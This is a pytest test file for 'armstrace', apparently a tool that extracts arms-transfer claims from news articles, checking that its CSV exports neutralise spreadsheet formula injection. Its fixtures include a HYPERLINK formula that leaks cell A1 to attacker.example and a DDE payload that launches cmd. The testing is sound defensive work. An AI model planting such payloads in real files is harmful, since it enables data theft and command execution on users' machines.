"""CSV that a spreadsheet opens as data: a cell that would run as a formula (a reviewer's
correction, an added claim, a title or a sentence read from an article) comes out of every
CSV armstrace writes with a leading `'`; JSONL and Parquet keep the exact values. On a real
SQLite file and a real PostgreSQL server, through the real command and the API. The
articles are written here."""

from __future__ import annotations

import ast
import csv
import io
import json

import pytest
from fastapi.testclient import TestClient

from armstrace.api import create_app
from armstrace.csv_safe import FORMULA_START, NUMBER, neutralise
from armstrace.extract.pipeline import RULES
from armstrace.pipeline import ingest
from armstrace.store import ClaimFilter, Store

from .conftest import ROOT, run_cli

DESIGNATION = '=HYPERLINK("http://attacker.example/?q="&A1,"see the source")'
SOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
NOTE = "-2+3 checked against the ministry's list"
ARTICLES = [
    {"id": "drones", "title": "Drones for Russia", "date": "2023-05-14", "publisher": "Example News",
     "text": "Iran has supplied Shahed-136 drones to Russia, U.S. officials said on Monday."},
    {"id": "howitzers", "title": "Howitzers for Ukraine", "date": "2024-02-20", "publisher": "Nordic Daily",
     "text": "Norway will donate eight M109 howitzers to Ukraine, the defence minister said."},
]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\nx", "'\nx"), ("   =1+1", "'   =1+1"),
    ("\uff1d1+1", "'\uff1d1+1"), ("-", "'-"), ("+44 20 7946 0000", "'+44 20 7946 0000"),
    # numbers stay numbers; text that only holds a sign further in is data
    ("-5", "-5"), ("-0.3", "-0.3"), ("+7", "+7"), ("-1e-3", "-1e-3"), (" -5", " -5"), ("1+1", "1+1"),
    ("Su-35", "Su-35"), ("a=b", "a=b"), ("'=1", "'=1"), ("", ""), (None, None), (-5, -5), (0.25, 0.25),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay_numbers(value, cell):
    assert neutralise(value) == cell


def runnable(cell: str) -> bool:
    """Whether a spreadsheet would read this cell as a formula."""
    return (cell.startswith(("\t", "\r", "\n")) or cell.lstrip().startswith(FORMULA_START)) \
        and not NUMBER.fullmatch(cell.strip())


def csv_rows(text: str) -> list[dict]:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text[:500]
    bad = [(column, cell) for row in rows for column, cell in row.items() if cell and runnable(cell)]
    assert not bad, f"cells a spreadsheet would run: {bad}"
    return rows


@pytest.fixture
def reviewed(db_url, tmp_path):
    """A register where a reviewer corrected a designation to a formula, added a claim whose
    source is one, and wrote a note that is one."""
    path = tmp_path / "articles.jsonl"
    path.write_text("".join(json.dumps(a) + "\n" for a in ARTICLES), encoding="utf-8")
    store = Store(db_url)
    ingest([str(path)], store, model=RULES)
    [drones] = store.claims(ClaimFilter(supplier="IRN"))
    [howitzers] = store.claims(ClaimFilter(supplier="NOR"))
    store.review([drones.id], "correct", {"designation": DESIGNATION}, reviewer="alice", note=NOTE)
    store.add_claim(howitzers.document_id, howitzers.start, howitzers.end,
                    {"supplier": "NOR", "recipient": "UKR", "category": "ammunition", "status": "planned",
                     "attribution": SOURCE}, reviewer="bob")
    yield store
    store.close()


def test_formulas_a_reviewer_wrote_are_neutralised_in_every_csv_and_exact_elsewhere(reviewed, db_url, tmp_path):
    store = reviewed
    # armstrace export --format csv
    out = tmp_path / "facts.csv"
    done = run_cli("export", "--format", "csv", "--out", out, "--db", db_url)
    assert done.returncode == 0, done.stderr
    rows = csv_rows(out.read_text(encoding="utf-8"))
    assert [r["Designation"] for r in rows if r["supplier_code"] == "IRN"] == ["'" + DESIGNATION]
    assert [r["cited"] for r in rows if r["category"] == "ammunition"] == ["'" + SOURCE]
    # the same from the API
    with TestClient(create_app(store=store)) as client:
        response = client.get("/api/export.csv")
    assert response.status_code == 200
    assert csv_rows(response.text) == rows
    # the lists' --format csv
    claims = csv_rows(run_cli("claims", "--format", "csv", "--db", db_url).stdout.decode())
    assert {r["designation"] for r in claims} >= {"'" + DESIGNATION}
    assert {r["attribution"] for r in claims} >= {"'" + SOURCE}
    facts = csv_rows(run_cli("facts", "--format", "csv", "--db", db_url).stdout.decode())
    assert "'" + DESIGNATION in {r["designation"] for r in facts}
    log = csv_rows(run_cli("review", "log", "--format", "csv", "--db", db_url).stdout.decode())
    assert "'" + NOTE in {r["note"] for r in log}

    # machine formats keep the exact value
    out = tmp_path / "facts.jsonl"
    assert run_cli("export", "--format", "jsonl", "--out", out, "--db", db_url).returncode == 0
    facts = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert DESIGNATION in {f["designation"] for f in facts} and [SOURCE] in [f["cited"] for f in facts]
    out = tmp_path / "facts.parquet"
    assert run_cli("export", "--format", "parquet", "--out", out, "--db", db_url).returncode == 0
    import pyarrow.parquet as pq

    table = pq.read_table(out).to_pylist()
    assert DESIGNATION in {f["designation"] for f in table} and [SOURCE] in [f["cited"] for f in table]
    claims = [json.loads(line) for line in
              run_cli("claims", "--format", "jsonl", "--db", db_url).stdout.decode().splitlines()]
    assert DESIGNATION in {c["designation"] for c in claims}
    assert NOTE in {r["note"] for r in store.reviews()}


def test_formulas_read_from_an_article_are_neutralised_in_csv_and_exact_in_jsonl(tmp_path):
    title = '=HYPERLINK("http://attacker.example","open")'
    sentence = "-Russia is preparing to deliver Su-35 jets to Iran, according to +officials."
    path = tmp_path / "hostile.jsonl"
    path.write_text(json.dumps({"id": "=1+1", "title": title, "text": sentence}) + "\n", encoding="utf-8")
    [doc] = csv_rows(run_cli("docs", path, "--format", "csv").stdout.decode())
    assert (doc["id"], doc["title"]) == ("'=1+1", "'" + title)
    [claim] = csv_rows(run_cli("extract", path, "--format", "csv", "--model", "rules", "--quiet").stdout.decode())
    assert (claim["doc"], claim["evidence"]) == ("'=1+1", "'" + sentence)
    [raw] = [json.loads(line) for line in
             run_cli("extract", path, "--format", "jsonl", "--model", "rules", "--quiet").stdout.decode().splitlines()]
    assert (raw["doc"], raw["evidence"]) == ("=1+1", sentence)

    db = tmp_path / "register.db"
    assert run_cli("ingest", path, "--db", db, "--model", "rules", "--quiet").returncode == 0
    out = tmp_path / "facts.csv"
    assert run_cli("export", "--format", "csv", "--out", out, "--db", db).returncode == 0
    [fact] = csv_rows(out.read_text(encoding="utf-8"))
    assert fact["evidence"] == "'" + sentence and fact["evidence_url"] == "'=1+1"


def test_every_csv_writer_in_the_package_is_the_safe_one():
    """No module writes CSV with the csv module's own writers: they go through csv_safe."""
    found = []
    for path in sorted((ROOT / "src" / "armstrace").rglob("*.py")):
        if path.name == "csv_safe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                    and isinstance(node.value, ast.Name) and node.value.id == "csv":
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" \
                    and any(a.name in ("writer", "DictWriter") for a in node.names):
                found.append(f"{path.relative_to(ROOT)}:{node.lineno}: from csv import")
    assert not found, f"write CSV through armstrace.csv_safe.DictWriter: {found}"
